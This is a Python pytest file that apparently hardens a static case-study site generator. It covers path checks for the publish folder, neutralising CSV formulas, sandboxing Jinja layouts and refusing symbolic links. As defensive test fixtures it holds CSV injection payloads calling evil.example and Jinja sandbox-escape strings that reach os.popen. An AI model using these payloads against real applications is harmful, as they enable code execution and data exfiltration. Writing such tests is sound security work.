"""Hardening: drafts and approval requests never reach the publish folder, whatever the
spelling of the path; --out never inside the site's own folders; CSV cells never formulas."""

from __future__ import annotations

import csv
import io
import json
import os
from collections.abc import Callable
from pathlib import Path

import pytest

from casesite.outputs.exports import COLUMNS, to_csv

from .conftest import APPROVAL, CASE_STUDY, MiniSite, tree_digest

DRAFT = CASE_STUDY.replace("title:", "draft: true\ntitle:").replace("test-quote", "draft-quote")
PENDING = APPROVAL.replace("status: approved\napproved_on: 2022-02-10", "status: pending")
DRAFT_FILES: dict[str, str | bytes | None] = {
    "content/case-studies/draft-story.md": DRAFT,
    "content/approvals/draft-quote.yml": PENDING,
}


def _spell(site: MiniSite, spelling: str) -> str:
    """A path to the site's _site/ (or under it) written in one of the ways a user might."""
    root = site.root
    if spelling == "link":
        (root / "elsewhere").symlink_to(root / "_site")
        return "elsewhere"
    if spelling == "link-to-root":
        (root.parent / "alias").symlink_to(root)
        return str(root.parent / "alias" / "_site")
    return {
        "plain": "_site",
        "dot-slash": "./_site/",
        "absolute": str(root / "_site"),
        "dot-dot": "content/../_site",
        "inside": "_site/preview",
    }[spelling]


SPELLINGS = ("plain", "dot-slash", "absolute", "dot-dot", "inside", "link", "link-to-root")


@pytest.mark.parametrize("spelling", SPELLINGS)
def test_drafts_never_go_to_the_publish_folder_by_any_spelling(
    mini_site: Callable[..., MiniSite],
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    spelling: str,
) -> None:
    site = mini_site(DRAFT_FILES)
    assert site.run("build", "--no-pdf", capsys=capsys).code == 0
    before = sorted(p.relative_to(site.out).as_posix() for p in site.out.rglob("*"))
    monkeypatch.chdir(site.root)
    out = _spell(site, spelling)
    result = site.run("build", "--no-pdf", "--drafts", "--out", out, capsys=capsys)
    assert result.code == 2, result.err
    assert "drafts never go to _site/ (the publish folder" in result.err
    after = sorted(p.relative_to(site.out).as_posix() for p in site.out.rglob("*"))
    assert after == before
    everything = "".join(p.read_text("utf-8", "replace") for p in site.out.rglob("*.*"))
    assert "draft-story" not in everything and "Awaiting approval" not in everything


@pytest.mark.parametrize("spelling", SPELLINGS)
def test_approval_requests_never_go_to_the_publish_folder(
    mini_site: Callable[..., MiniSite],
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    spelling: str,
) -> None:
    site = mini_site(DRAFT_FILES)
    assert site.run("build", "--no-pdf", capsys=capsys).code == 0
    before = tree_digest(site.out)
    monkeypatch.chdir(site.root)
    folder = _spell(site, spelling)
    target = folder if spelling == "inside" else os.path.join(folder, "requests")
    result = site.run("quotes", "--requests", target, capsys=capsys)
    assert result.code == 2, result.err
    assert "approval requests never go to _site/ (the publish folder" in result.err
    assert tree_digest(site.out) == before
    assert not Path(target).exists()


def test_approval_requests_never_go_into_another_built_site(
    mini_site: Callable[..., MiniSite], capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    site = mini_site()
    public = tmp_path / "public"
    assert site.run("build", "--no-pdf", "--out", str(public), capsys=capsys).code == 0
    result = site.run("quotes", "--requests", str(public / "requests"), capsys=capsys)
    assert result.code == 2 and "a folder that casesite builds" in result.err
    assert not (public / "requests").exists()


@pytest.mark.parametrize(
    "out",
    [
        ".",
        "./",
        "content",
        "content/out",
        "layouts/x",
        "assets/built",
        "./assets/../layouts/deep/er",
        "linked-assets/out",
    ],
)
def test_out_never_inside_the_site_sources_or_the_root(
    mini_site: Callable[..., MiniSite],
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    out: str,
) -> None:
    site = mini_site()
    (site.root / "linked-assets").symlink_to(site.root / "assets")
    monkeypatch.chdir(site.root)
    before = sorted(p.as_posix() for p in Path(".").rglob("*"))
    for args in (("build", "--no-pdf"), ("build", "--no-pdf", "--drafts")):
        result = site.run(*args, "--out", out, capsys=capsys)
        assert result.code == 2, result.err
        assert "casesite: the output folder" in result.err
        assert sorted(p.as_posix() for p in Path(".").rglob("*")) == before


def test_drafts_may_be_previewed_beside_the_site(
    mini_site: Callable[..., MiniSite],
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    site = mini_site(DRAFT_FILES)
    monkeypatch.chdir(site.root)
    for out in ("preview", "./_site-preview/", "preview"):  # twice: a rebuild is allowed too
        result = site.run("build", "--no-pdf", "--drafts", "--out", out, capsys=capsys)
        assert result.code == 0, result.err
    assert "Awaiting approval" in Path("preview/case-studies/draft-story/index.html").read_text()
    result = site.run("quotes", "--requests", "requests", capsys=capsys)
    assert result.code == 0 and Path("requests/robert-buzsaki.md").is_file()


# CSV injection (OWASP): a cell a spreadsheet would read as a formula starts with a quote.
FORMULA_CELLS = [
    ('=HYPERLINK("http://evil.example/","x")', '\'=HYPERLINK("http://evil.example/","x")'),
    ("+1+1", "'+1+1"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("A=1", "A=1"),
    ("'quoted", "'quoted"),
    ("", ""),
]


@pytest.mark.parametrize(("value", "cell"), FORMULA_CELLS)
def test_csv_cells_that_read_as_formulas_are_neutralised(value: str, cell: str) -> None:
    item: dict[str, object] = {name: "" for name in COLUMNS}
    item.update(grant_amount=1, support_hours=1, title=value, themes=[value, "x"])
    rows = list(csv.reader(io.StringIO(to_csv([item]), newline="")))
    got = dict(zip(rows[0], rows[1], strict=True))
    assert got["title"] == cell
    assert got["themes"] == (f"{cell}; x" if value else "; x")


def test_csv_of_a_built_site_neutralises_formulas_and_json_keeps_the_text(
    mini_site: Callable[..., MiniSite], capsys: pytest.CaptureFixture[str]
) -> None:
    title = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    story = CASE_STUDY.replace(
        "title: Police and associations started working together", f"title: '{title}'"
    ).replace("developed_by: Glopolis", "developed_by: '@Glopolis'")
    site = mini_site({"content/case-studies/hungary.md": story})
    result = site.run("build", "--no-pdf", capsys=capsys)
    assert result.code == 0, result.err
    table = (site.out / "case-studies.csv").read_text("utf-8")
    [row] = list(csv.DictReader(io.StringIO(table, newline="")))
    assert row["title"] == "'" + title and row["developed_by"] == "'@Glopolis"
    data = json.loads((site.out / "case-studies.json").read_text("utf-8"))["case_studies"][0]
    assert data["title"] == title and data["developed_by"] == "@Glopolis"


# Layouts run in Jinja's sandbox: a layout cannot reach Python's internals.
ESCAPES = [
    "{{ lipsum.__globals__['os'].popen('echo PWNED-$((6*7))').read() }}",
    "{{ cycler.__init__.__globals__.os.popen('echo PWNED-$((6*7))').read() }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}PWNED-42",
]


def _with_line(layout: str, line: str) -> str:
    return layout.replace("{% block content %}\n", "{% block content %}\n" + line + "\n", 1)


@pytest.mark.parametrize("escape", ESCAPES)
def test_a_page_layout_cannot_reach_python_internals(
    mini_site: Callable[..., MiniSite], capsys: pytest.CaptureFixture[str], escape: str
) -> None:
    site = mini_site()
    layout = (site.root / "layouts/case-study.html").read_text()
    site.write({"layouts/case-study.html": _with_line(layout, escape)})
    result = site.run("build", "--no-pdf", capsys=capsys)
    assert result.code == 1, result.err
    assert "layouts/case-study.html:5:1: error: " in result.err
    assert "[layout-unsafe]" in result.err
    assert not site.out.exists()


def test_the_brief_layout_cannot_reach_python_internals(
    mini_site: Callable[..., MiniSite], capsys: pytest.CaptureFixture[str]
) -> None:
    site = mini_site()
    layout = (site.root / "layouts/brief.html").read_text()
    layout = layout.replace("<body class", ESCAPES[0] + "\n<body class", 1)
    line = layout.splitlines().index(ESCAPES[0]) + 1
    site.write({"layouts/brief.html": layout})
    result = site.run("build", capsys=capsys)
    assert result.code == 1, result.err
    assert f"layouts/brief.html:{line}:1: error: " in result.err
    assert "[layout-unsafe]" in result.err and "PWNED-42" not in result.err
    assert not site.out.exists()


@pytest.mark.parametrize("where", ["file", "folder", "layout"])
def test_layouts_never_read_through_a_symbolic_link(
    mini_site: Callable[..., MiniSite],
    capsys: pytest.CaptureFixture[str],
    tmp_path: Path,
    where: str,
) -> None:
    site = mini_site()
    secret = tmp_path / "outside" / "passwd.html"
    secret.parent.mkdir()
    secret.write_text("root:x:0:0:TOP-SECRET\n")
    layout = (site.root / "layouts/case-study.html").read_text()
    if where == "file":
        (site.root / "layouts/secret.html").symlink_to(secret)
        site.write({"layouts/case-study.html": _with_line(layout, '{% include "secret.html" %}')})
        shown = "layouts/secret.html"
    elif where == "folder":
        (site.root / "layouts/parts").symlink_to(secret.parent)
        include = '{% include "parts/passwd.html" %}'
        site.write({"layouts/case-study.html": _with_line(layout, include)})
        shown = "layouts/parts"
    else:
        moved = tmp_path / "outside" / "case-study.html"
        moved.write_text(_with_line(layout, "TOP-SECRET"))
        (site.root / "layouts/case-study.html").unlink()
        (site.root / "layouts/case-study.html").symlink_to(moved)
        shown = "layouts/case-study.html"
    result = site.run("build", "--no-pdf", capsys=capsys)
    assert result.code == 1, result.err
    assert f"{shown}:1:1: error: " in result.err and "[symlink]" in result.err
    assert not site.out.exists()
